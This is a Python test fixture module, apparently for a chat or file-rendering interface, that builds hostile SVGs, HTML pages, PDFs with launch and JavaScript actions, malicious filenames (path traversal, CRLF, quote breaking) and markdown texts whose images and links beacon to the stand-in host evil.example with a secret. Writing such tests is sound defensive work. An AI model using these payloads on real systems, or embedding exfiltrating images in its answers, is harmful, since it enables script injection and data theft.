"""Hostile files and texts: each tries to run a script, to reach another host, or to leave the page."""

from typing import NamedTuple

from showandtell import File, tool
from support import fixtures
from support.polyglots import make_polyglots

#: No request may reach this host.
EVIL = "http://evil.example"
#: A script that does everything that the page's tests detect.
CODE = (
    "for(const w of[self,parent,top,opener])try{w.__pwned()}catch{};console.error('a script ran');"
    f"new Image().src='{EVIL}/ran';try{{fetch('{EVIL}/ran')}}catch{{}};try{{alert('pwned')}}catch{{}}"
)
SCRIPT = f"<script>{CODE}</script>"
REQUESTS = (
    f"<img src='{EVIL}/img'><link rel=stylesheet href='{EVIL}/css'><link rel=prefetch href='{EVIL}/prefetch'>"
    f"<link rel=preconnect href='{EVIL}'><iframe src='{EVIL}/iframe'></iframe><object data='{EVIL}/object'></object>"
    f"<video src='{EVIL}/video' autoplay></video><style>@import '{EVIL}/import';body{{background:url({EVIL}/bg)}}</style>"
    f"<meta http-equiv=refresh content='0;url={EVIL}/refresh'>"
)
XMLNS = 'xmlns="http://www.w3.org/1999/xhtml"'
SVGNS = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'


class HostileFile(NamedTuple):
    """A file's bytes with the name and media type that its sender claims."""

    name: str
    media_type: str
    data: bytes


def svg(inner, attributes=""):
    return f'<svg {SVGNS} width="60" height="40" {attributes}>{inner}<rect width="60" height="40" fill="red"/></svg>'


def pdf(action):
    """A PDF whose catalog has an action."""
    return fixtures.pdf("hello").replace(b"/Type /Catalog", b"/Type /Catalog " + action.encode(), 1)


SVGS = {
    "script": svg(f"<script>{CODE}</script>"),
    "cdata": svg(f"<script><![CDATA[{CODE}]]></script>"),
    "onload": svg("", f'onload="{CODE}"'),
    "animate": svg(f'<animate onbegin="{CODE}" attributeName="x" dur="1s"/>'),
    "set": svg(f'<set attributeName="onmouseover" to="{CODE}"/>'),
    "foreign": svg(f"<foreignObject width='60' height='40'><div {XMLNS}><script>{CODE}</script></div></foreignObject>"),
    "iframe": svg(f"<foreignObject><iframe {XMLNS} src='javascript:{CODE.replace(chr(39), '%27')}'/></foreignObject>"),
    "image": svg(f"<image href='{EVIL}/image' width='9' height='9'/>"),
    "xlink": svg(f"<image xlink:href='{EVIL}/xlink' width='9' height='9'/>"),
    "use": svg(f"<use href='{EVIL}/use.svg#a'/>"),
    "style": svg(f"<style>@import '{EVIL}/style';rect{{fill:url({EVIL}/fill#a)}}</style>"),
    "link": svg(f'<a href="javascript:{CODE.replace(chr(39), "%27")}"><rect width="60" height="40"/></a>'),
    "external": svg(f"<script href='{EVIL}/script.js'/>"),
    "entity": f'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "{EVIL}/entity">]>{svg("<text>&x;</text>")}',
    "stylesheet": f'<?xml version="1.0"?><?xml-stylesheet href="{EVIL}/sheet.css"?>{svg("")}',
    "filter": svg(
        f"<filter id='f'><feImage href='{EVIL}/filter'/></filter><rect filter='url(#f)' width='9' height='9'/>"
    ),
}
PAGES = {
    "page.html": ("text/html", f'<!doctype html><body onload="{CODE}">{SCRIPT}{REQUESTS}'),
    "page.htm": ("image/png", f"<html>{SCRIPT}{REQUESTS}"),
    "page.txt": ("text/plain", f"{SCRIPT}{REQUESTS}"),
    "page.md": ("text/markdown", f"# Hello\n\n{SCRIPT}\n\n![]({EVIL}/md)\n\n{REQUESTS}"),
    "page.csv": ("text/csv", f'name,{SCRIPT}\n"=HYPERLINK(""{EVIL}"")",{REQUESTS}\n'),
    "page.json": ("application/json", f'{{"a": "{SCRIPT}"}}'),
    "page.xhtml": (
        "application/xhtml+xml",
        f"<html {XMLNS}><head><title>x</title></head><body><script>{CODE}</script></body></html>",
    ),
    "page.xml": ("text/xml", f"<?xml version='1.0'?><html {XMLNS}><script>{CODE}</script></html>"),
    "sheet.xml": (
        "application/xml",
        f"<?xml version='1.0'?><?xml-stylesheet type='text/xsl' href='{EVIL}/sheet.xsl'?><a/>",
    ),
    "page.mhtml": ("multipart/related", f"MIME-Version: 1.0\nContent-Type: text/html\n\n{SCRIPT}"),
    "page.js": ("text/javascript", CODE),
    "page.css": ("text/css", f"@import '{EVIL}/css';"),
    "manifest.appcache": ("text/cache-manifest", "CACHE MANIFEST\n/\n"),
    "page.svgz": ("image/svg+xml", f"<svg {SVGNS}>{SCRIPT}"),
    "page.pdf.html": ("application/pdf", f"<html>{SCRIPT}"),
    "worker.js": ("application/javascript", f"onfetch=e=>e.respondWith(new Response({SCRIPT!r}))"),
    "feed.rss": ("application/rss+xml", f"<rss><channel><title>{SCRIPT}</title><link>{EVIL}</link></channel></rss>"),
    "page.shtml": ("text/html", f"<!--#exec cmd='id' -->{SCRIPT}"),
    "a\u202egnp.html": ("text/html", SCRIPT),
    "<img src=x onerror=__pwned()>.txt": ("text/plain", "a name that is a page"),
    '"><script>__pwned()<\u2215script>.txt': ("text/plain", "a name that leaves its quotes"),
    "../../../../etc/passwd": ("text/plain", "a name that climbs"),
    "a\r\nset-cookie: a=b.txt": ("text/plain", "a name with a header"),
    "javascript:alert(1)": ("text/plain", "a name that is an address"),
    "image 1 (file:1).txt": ("text/plain", f"![x]({EVIL}/file) image 1"),
}
PDFS = {
    "javascript": pdf("/OpenAction << /S /JavaScript /JS (app.alert\\('pwned'\\);) >>"),
    "uri": pdf(f"/OpenAction << /S /URI /URI ({EVIL}/pdf) >>"),
    "launch": pdf("/OpenAction << /S /Launch /F (calc.exe) >>"),
    "gotor": pdf(f"/OpenAction << /S /GoToR /F << /FS /URL /F ({EVIL}/gotor) >> /D [0 /Fit] >>"),
    "submit": pdf(f"/OpenAction << /S /SubmitForm /F << /FS /URL /F ({EVIL}/submit) >> >>"),
    "names": pdf(
        f"/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (this.submitForm\\('{EVIL}/js'\\);) >>] >> >>"
    ),
}


def make_files():
    files = [HostileFile(f"{name}.svg", "image/svg+xml", text.encode()) for name, text in SVGS.items()]
    files += [HostileFile(f"{name}.png", "image/png", text.encode()) for name, text in [*SVGS.items()][:4]]
    files += [HostileFile(name, media_type, text.encode()) for name, (media_type, text) in PAGES.items()]
    files += [HostileFile(f"{name}.pdf", "application/pdf", data) for name, data in PDFS.items()]
    polyglots = make_polyglots()
    files += [HostileFile(f"{polyglot.name}.html", "text/html", polyglot.data) for polyglot in polyglots]
    return files + [
        HostileFile(polyglot.name, polyglot.proves, polyglot.data)
        for polyglot in polyglots[::4]
        if "/" in polyglot.proves
    ]


FILES = make_files()


@tool
def send_files(first: int, step: int, count: int) -> list[File]:
    """Send every `step`-th hostile file from index `first`, at most `count`."""
    chosen = FILES[first::step][:count]
    return [File.from_bytes(item.data, item.media_type, name=item.name) for item in chosen]


def url(name):
    """A URL of the forbidden host that names the way of the attack."""
    return f"{EVIL}/{name}?secret=hunter2"


#: Markdown of an answer that makes a browser send a request or run a script.
TEXTS = (
    f"![inline]({url('inline')})",
    f"![reference][r1]\n\n[r1]: {url('reference')}",
    f"![collapsed][]\n\n[collapsed]: {url('collapsed')}",
    f'![angled](<{url("angled")}> "title")',
    f"[![nested]({url('nested')})]({url('around')})",
    "![relative](//evil.example/relative)",
    f"![shouted]({url('shouted').upper()})",
    "![backslash](http:\\\\evil.example\\backslash)",
    f"![port]({EVIL}:8080/port)",
    "![user](http://a:b@evil.example/user)",
    "![ftp](ftp://evil.example/ftp)",
    f"![data](data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='{EVIL}/data'/></svg>)",
    f"![blob](blob:{EVIL}/blob)",
    f"![file and more](file:1?x={EVIL})",
    "![file on a host](file://evil.example/1)",
    "![entity](http&#58;//evil.example/entity)",
    "![percent](http:%2f%2fevil.example/percent)",
    f"![half]({url('half')}",
    f"<img src='{url('img')}'>",
    f"<img srcset='{url('srcset')} 1x'>",
    f"<picture><source srcset='{url('source')}'><img></picture>",
    f'<img src=x onerror="{CODE}">',
    f"<video src='{url('video')}' poster='{url('poster')}' autoplay></video><audio src='{url('audio')}' autoplay></audio>",
    f"<style>@import '{url('import')}'; body {{ background: url({url('background')}) }}</style>",
    f'<div style="background-image: url({url("style")})">styled</div>',
    f"<link rel=stylesheet href='{url('stylesheet')}'><link rel=prefetch href='{url('prefetch')}'>",
    f"<link rel=preconnect href='{EVIL}'><link rel=dns-prefetch href='//evil.example'><link rel=preload as=image href='{url('preload')}'>",
    f"<svg><image href='{url('svgimage')}'/><use href='{url('use')}#a'/></svg>",
    f'<svg onload="{CODE}"></svg>',
    f"<math><mtext><style><img src='{url('math')}' onerror=\"{CODE}\"></style></mtext></math>",
    f"<iframe src='{url('iframe')}'></iframe><iframe srcdoc=\"{SCRIPT}\"></iframe>",
    f"<object data='{url('object')}'></object><embed src='{url('embed')}'>",
    f"<meta http-equiv=refresh content='0;url={url('refresh')}'>",
    f"<base href='{EVIL}/base/'>\n\n![after base](picture.png)",
    f"<form action='{url('form')}'><input name=a autofocus onfocus=\"{CODE}\"><button>send</button></form>",
    f"<body background='{url('body')}'><table background='{url('table')}'><tr><td>a</td></tr></table>",
    SCRIPT,
    f"<script src='{url('script.js')}'></script>",
    f"<template><img src='{url('template')}'></template><noscript><img src='{url('noscript')}'></noscript>",
    f"{url('autolink')} and www.evil.example/www and <{url('angle')}>",
    f"[javascript](javascript:{CODE.replace(' ', '%20')}) [spaced](java\tscript:alert(1)) [cased](JaVaScRiPt:alert(1))",
    "[entity](javascript&colon;alert(1)) [tabbed](&#x09;javascript:alert(1)) [vb](vbscript:msgbox(1))",
    "[data](data:text/html,<script>alert(1)</script>) [base64](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "<a href='javascript:alert(1)'>html</a> [blob](blob:null/a) [file](file:///etc/passwd) <javascript:alert(1)>",
    f'```mermaid\ngraph TD; A-->B["<img src=\'{url("mermaid")}\'>"]\nclick A href "javascript:alert(1)"\n```',
    f"```html\n{SCRIPT}\n```",
    f"$$\\href{{javascript:alert(1)}}{{x}} \\includegraphics{{{url('math')}}}$$",
    f"| a |\n|---|\n| ![cell]({url('cell')}) |",
    f"[^1]\n\n[^1]: ![note]({url('note')})",
    f"- [x] ![task]({url('task')})\n\n> ![quote]({url('quote')})",
    f"# ![head]({url('head')})",
    f"&lt;img src={url('escaped')}&gt; \\![slashed]({url('slashed')})",
    f"<a href='{url('ping')}' ping='{url('pinged')}'>ping</a>",
    f'<details open ontoggle="{CODE}"><summary>more</summary>x</details>',
)


@tool
def send_texts() -> list[str | File]:
    """Send the hostile texts, and the same as a file."""
    text = "\n\n".join(TEXTS)
    return [text, File.from_bytes(text.encode(), "text/markdown", name="texts.md")]
